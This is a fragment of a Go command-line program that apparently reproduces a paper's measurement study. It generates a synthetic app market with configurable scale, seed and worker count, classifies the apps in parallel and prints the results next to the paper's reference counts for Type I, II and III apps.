	"runtime"

	"repro/internal/corpus"
)

func main() {
	scale := flag.Int("scale", 1, "divide the market size by this factor")
	seed := flag.Int64("seed", 1, "market generator seed")
	workers := flag.Int("workers", runtime.GOMAXPROCS(0), "concurrent classification workers")
	flag.Parse()

	params := corpus.PaperParams()
	if *scale > 1 {
		params = corpus.Scaled(*scale)
	}
	params.Seed = *seed

	fmt.Printf("Generating market (%d apps, seed %d, %d workers)...\n\n",
		params.Total, params.Seed, *workers)
	stats := corpus.AnalyzeParallel(params, *workers)
	fmt.Println(stats.Report())
	fmt.Printf("Paper reference: 227,911 apps, 16.46%% Type I, 4,034 Type I without libs\n")
	fmt.Printf("(48.1%% AdMob), 1,738 Type II (394 loader-capable), 16 Type III (11 game, 5 ent.)\n")
}
